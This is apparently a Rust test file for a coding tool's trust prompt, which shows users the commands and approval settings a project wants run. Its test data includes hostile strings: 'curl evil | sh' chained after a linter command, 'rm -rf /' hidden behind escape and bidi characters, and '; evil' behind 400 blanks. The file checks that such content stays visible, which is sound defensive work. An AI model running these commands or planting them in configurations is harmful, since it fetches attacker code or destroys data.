//! What a project wants to be trusted with, as people see it.

use relaycode_text::escape::is_unsafe;

use super::*;

const PLAIN: OutputStyle = OutputStyle { color: false, utf8: true, width: Some(80) };
const ASCII: OutputStyle = OutputStyle { color: false, utf8: false, width: Some(80) };

fn wants(commands: &[(&str, &str)], settings: &[(&str, &str)]) -> TrustRequest {
    let own = |rows: &[(&str, &str)]| rows.iter().map(|(a, b)| (a.to_string(), b.to_string())).collect();
    TrustRequest { commands: own(commands), settings: own(settings), git: Vec::new() }
}

#[test]
fn commands_stand_below_one_another() {
    let wants = wants(&[("linter", "bun tsc --noEmit"), ("postCommand", "make fmt")], &[]);
    let expected = "\
this project wants to run 2 commands
    linter        bun tsc --noEmit
    postCommand   make fmt
";
    assert_eq!(text(&wants, None, &PLAIN), expected);
    let said = source_phrase(&wants, None, "relaycode.config.json", &PLAIN);
    assert_eq!(said, "from relaycode.config.json, not seen before");
}

#[test]
fn what_changed_since_the_last_yes_is_marked() {
    let before = wants(&[("linter", "tsc"), ("preCommand", "x"), ("postCommand", "make fmt")], &[]);
    let now =
        wants(&[("linter", "tsc --noEmit"), ("postCommand", "make fmt")], &[("patch.approvalMode", "auto")]);
    let expected = "\
this project wants to run 2 commands and to say who approves
  - linter        tsc
  + linter        tsc --noEmit
    postCommand   make fmt
  - preCommand    x
  these settings decide who approves
  + patch.approvalMode   auto
";
    assert_eq!(text(&now, Some(&before), &PLAIN), expected);
    assert_eq!(source_phrase(&now, Some(&before), "c", &PLAIN), "from c, changed since you trusted it");
    assert_eq!(source_phrase(&now, Some(&now), "c", &PLAIN), "from c, trusted as it is");
}

#[test]
fn a_command_is_seen_whole_however_long_and_narrow() {
    let command = format!("./check {} ; curl evil | sh", "--flag=".repeat(30));
    let wants = wants(&[("linter", &command)], &[("patch.approvalOnErrorCount", "100")]);
    for width in [40, 80, 110] {
        let shown = text(&wants, None, &OutputStyle { width: Some(width), ..PLAIN });
        assert!(shown.lines().all(|line| cells(line) <= width), "{shown}");
        let letters = |text: &str| text.chars().filter(|c| !c.is_whitespace()).collect::<String>();
        assert!(letters(&shown).contains(&letters(&command)), "{shown}");
    }
    let narrow = text(&wants, None, &OutputStyle { width: Some(40), ..PLAIN });
    assert!(narrow.ends_with("    patch.approvalOnErrorCount\n      100\n"), "{narrow}");
}

#[test]
fn hostile_names_and_commands_are_visible() {
    let hostile = "a\x1b[2Jb\u{202e}c\nrm -rf /\u{9b}31m\té";
    let wants = wants(&[(hostile, hostile)], &[(hostile, hostile)]);
    for style in [PLAIN, ASCII, OutputStyle { width: None, ..PLAIN }] {
        let shown = text(&wants, Some(&TrustRequest::default()), &style)
            + &source_phrase(&wants, None, hostile, &style);
        assert_eq!(shown.chars().find(|c| is_unsafe(*c) && *c != '\n'), None, "{shown:?}");
        assert!(shown.contains("c\\nrm -rf /"), "{shown}");
        assert!(style.utf8 || shown.is_ascii(), "{shown}");
    }
}

#[test]
fn folding_loses_nothing() {
    for (text, room, expected) in [
        ("abc", 3, vec!["abc"]),
        ("abcdef", 3, vec!["abc", "def"]),
        ("run the tests", 8, vec!["run the ", "tests"]),
        ("日本語", 4, vec!["日本", "語"]),
        ("日本", 1, vec!["日", "本"]),
        ("", 5, vec![""]),
    ] {
        assert_eq!(fold(text, room), expected);
        assert_eq!(fold(text, room).concat(), text);
    }
}

#[test]
fn blanks_cannot_hide_what_follows() {
    assert_eq!(count_blanks("a b   c"), "a b   c");
    assert_eq!(count_blanks(&format!("make{}; evil", " ".repeat(400))), "make [400 blanks] ; evil");
}
